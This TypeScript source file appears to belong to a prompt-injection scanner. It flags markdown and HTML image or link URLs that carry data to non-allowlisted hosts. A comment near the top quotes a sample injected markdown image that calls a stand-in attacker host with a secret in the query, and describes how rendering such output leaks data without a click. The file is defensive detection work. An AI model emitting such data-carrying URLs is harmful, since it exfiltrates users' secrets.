import type { Finding, ScanOptions } from './types.js';

// Markdown images render without a click: an injected `![](https://attacker/?d=<secret>)`
// sends data the moment the answer is displayed. Links need a click but carry data the same way.
// Both are found from the literal `](http` (and `<img` for HTML), then examined locally.

const MD_TARGET = /\]\(\s{0,3}<?https?:\/\//g;
const HTML_IMG = /<img\b[^>]{0,512}?\ssrc\s{0,3}=\s{0,3}["']?(?=https?:\/\/)/g;
const MAX_LABEL = 512;
const MAX_URL = 4096;

/** Host patterns: exact names, or `*.example.com` for any subdomain of example.com. */
export function hostAllowed(host: string, allowed: readonly string[]): boolean {
  for (const pattern of allowed) {
    const p = pattern.toLowerCase();
    if (p.startsWith('*.') ? host.endsWith(p.slice(1)) && host.length > p.length - 1 : host === p) return true;
  }
  return false;
}

function urlEnd(text: string, from: number): number {
  let p = from;
  const limit = Math.min(text.length, from + MAX_URL);
  while (p < limit) {
    const c = text.charCodeAt(p);
    if (c <= 0x20 || c === 0x29 || c === 0x3e || c === 0x22 || c === 0x27) break; // space ) > " '
    p++;
  }
  return p;
}

function hostOf(url: string): string {
  const rest = url.slice(url.indexOf('//') + 2);
  let host = rest.split(/[/?#]/, 1)[0] ?? '';
  host = host.slice(host.lastIndexOf('@') + 1);
  if (host.startsWith('[')) return host.slice(0, host.indexOf(']') + 1);
  return host.split(':', 1)[0]!.toLowerCase();
}

const LONG_BLOB = /[A-Za-z0-9+=_%-]{32,}/; // within one path segment

/**
 * The URL carries data: a long query value, a template slot to fill, or (for images, which
 * need no click) an encoded blob in the path. Hex-only segments are commit ids and hashes.
 */
export function carriesData(url: string, image: boolean): boolean {
  if (/[{}$<]|%7b|%3c/i.test(url)) return true;
  const q = url.indexOf('?');
  if (q !== -1) {
    const query = url.slice(q + 1);
    if (query.length >= 96) return true;
    for (const pair of query.split('&')) {
      const value = pair.slice(pair.indexOf('=') + 1);
      if (value.length >= 20) return true;
    }
  }
  if (!image) return false;
  const path = url.slice(url.indexOf('//') + 2, q === -1 ? undefined : q);
  const blob = LONG_BLOB.exec(path)?.[0];
  return blob !== undefined && /\d/.test(blob) && /[a-zA-Z]/.test(blob) && !/^[0-9a-f]+$/i.test(blob);
}

function judge(image: boolean, url: string, options: ScanOptions | undefined): number | undefined {
  const allowed = options?.allowedHosts;
  if (allowed !== undefined && hostAllowed(hostOf(url), allowed)) return undefined;
  const data = carriesData(url, image);
  if (image) {
    if (data) return allowed !== undefined ? 0.9 : 0.8;
    return allowed !== undefined ? 0.7 : undefined;
  }
  return data ? 0.6 : undefined;
}

export function scanExfiltration(text: string, lower: string, out: Finding[], options: ScanOptions | undefined): void {
  MD_TARGET.lastIndex = lower.indexOf('](') === -1 ? lower.length : 0;
  for (let m = MD_TARGET.exec(lower); m !== null; m = MD_TARGET.exec(lower)) {
    const close = m.index;
    const open = text.slice(Math.max(0, close - MAX_LABEL), close).lastIndexOf('[');
    if (open === -1) continue;
    const bracket = Math.max(0, close - MAX_LABEL) + open;
    const image = text.charCodeAt(bracket - 1) === 0x21; // '!'
    const urlStart = text.indexOf('http', close);
    const end = urlEnd(text, urlStart);
    const score = judge(image, text.slice(urlStart, end), options);
    if (score === undefined) continue;
    const paren = text.charCodeAt(end) === 0x3e ? end + 1 : end; // '<url>' form
    const spanEnd = text.charCodeAt(paren) === 0x29 ? paren + 1 : end;
    out.push({ class: 'injection', type: 'EXFILTRATION', start: image ? bracket - 1 : bracket, end: spanEnd, score, rule: image ? 'injection.exfil.markdown-image' : 'injection.exfil.markdown-link' });
    MD_TARGET.lastIndex = Math.max(MD_TARGET.lastIndex, spanEnd);
  }
  if (lower.indexOf('<img') === -1) return;
  HTML_IMG.lastIndex = 0;
  for (let m = HTML_IMG.exec(lower); m !== null; m = HTML_IMG.exec(lower)) {
    const urlStart = HTML_IMG.lastIndex;
    const end = urlEnd(text, urlStart);
    const score = judge(true, text.slice(urlStart, end), options);
    if (score === undefined) continue;
    const gt = text.slice(end, end + MAX_LABEL).indexOf('>');
    out.push({ class: 'injection', type: 'EXFILTRATION', start: m.index, end: gt === -1 ? end : end + gt + 1, score, rule: 'injection.exfil.html-image' });
  }
}
